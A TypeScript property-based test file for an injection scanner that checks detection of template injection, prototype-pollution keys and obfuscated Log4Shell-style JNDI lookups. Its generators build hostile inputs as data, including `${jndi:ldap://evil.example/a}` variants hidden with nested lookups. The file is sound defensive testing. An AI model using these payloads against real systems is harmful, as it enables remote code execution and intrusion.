import { describe, it } from "node:test";
import assert from "node:assert/strict";
import fc from "fast-check";
import { Lookups, MAX_LOOKUP } from "../../../src/injection-scan/families/jndi/lookups.ts";
import { scanText } from "../../../src/injection-scan/mod.ts";

const FAMILIES = ["template", "code", "prototype", "jndi"] as const;
const EXACT = { families: FAMILIES, layers: { model: false } } as const;

/** Openings, closes and what stands between them. */
const piece = fc.oneof(
  fc.constantFrom(
    ..."{{ }} {% %} ${ #{ *{ @{ %{ ~{ } <%= %> <# [# > [[ ]] @( #set( ) {$ {php} $a. | ' \" ` \\ : :- , + * 7 "
      .split(" "),
    "__class__",
    "__proto__",
    "constructor",
    "prototype",
    "system(",
    "jndi:ldap://",
    "${lower:",
    "<?php ",
    'O:8:"',
    "java.lang.",
    "require('",
    "\n",
  ),
  fc.string({ unit: "grapheme", maxLength: 6 }),
);
const text = fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join(""));
const name = fc.stringMatching(/^[a-z]{1,12}$/);

describe("exact rules, whatever they are given,", () => {
  it("never throw, and point into the text", () => {
    fc.assert(
      fc.property(text, (input) => {
        for (const { start, end } of scanText(input, EXACT).findings) {
          assert.ok(start >= 0 && start <= end && end <= input.length, `${start}..${end}`);
        }
      }),
      { numRuns: 500 },
    );
  });

  it("leave placeholders alone", () => {
    const open = fc.constantFrom(["{{", "}}"], ["{{ ", " }}"], ["${", "}"], ["<%= ", " %>"]);
    const reserved = new Set(["config", "self", "this", "settings", "request", "process"]);
    const path = fc.array(name, { minLength: 2, maxLength: 4 });
    fc.assert(
      fc.property(open, path, ([before, after], names) => {
        fc.pre(!names.some((part) => reserved.has(part) || part.length < 3));
        const input = `${before}user.${names.join("x.")}x${after}`;
        assert.equal(scanText(input, EXACT).blocked, false, input);
      }),
      { numRuns: 300 },
    );
  });

  it("see arithmetic between any two numbers, in any expression", () => {
    const open = fc.constantFrom(["{{", "}}"], ["${", "}"], ["#{", "}"], ["<%=", "%>"], [
      "*{",
      "}",
    ]);
    const number = fc.integer({ min: 0, max: 99_999 });
    const space = fc.constantFrom("", " ", "  ");
    const around = fc.stringMatching(/^[a-zA-Z ]{0,20}$/);
    fc.assert(
      fc.property(open, number, number, space, around, ([before, after], a, b, s, x) => {
        const input = `${x}${before}${s}${a}${s}*${s}${b}${s}${after}${x}`;
        assert.equal(scanText(input, EXACT).blocked, true, input);
      }),
      { numRuns: 300 },
    );
  });

  it("see a JNDI look-up however its letters are looked up", () => {
    const letter = (char: string) =>
      fc.constantFrom(
        char,
        `\${lower:${char}}`,
        `\${upper:${char.toUpperCase()}}`,
        `\${::-${char}}`,
        `\${env:NOPE:-${char}}`,
        `\${date:'${char}'}`,
        `\${a:\${b:-c}:-${char}}`,
      );
    fc.assert(
      fc.property(fc.tuple(...[..."jndi:ldap"].map(letter)), (letters) => {
        const input = `\${${letters.join("")}://evil.example/a}`;
        assert.equal(scanText(input, EXACT).blocked, true, input);
      }),
      { numRuns: 300 },
    );
  });

  it("see a key that leads to a prototype, wherever it is nested", () => {
    const key = fc.constantFrom("__proto__", "constructor][prototype");
    fc.assert(
      fc.property(
        fc.array(name, { minLength: 1, maxLength: 4 }),
        key,
        name,
        (path, proto, last) => {
          const input = `${path.join("[")}${
            "]".repeat(path.length > 1 ? 1 : 0)
          }[${proto}][${last}]=1`;
          assert.equal(scanText(input, EXACT).blocked, true, input);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe("look-ups", () => {
  it("resolve to no more than they hold", () => {
    const lookups = new Lookups();
    fc.assert(
      fc.property(text, (input) => {
        const part = input.slice(0, MAX_LOOKUP);
        assert.ok(lookups.resolve(part, 0, part.length).length <= part.length);
      }),
      { numRuns: 300 },
    );
  });
});
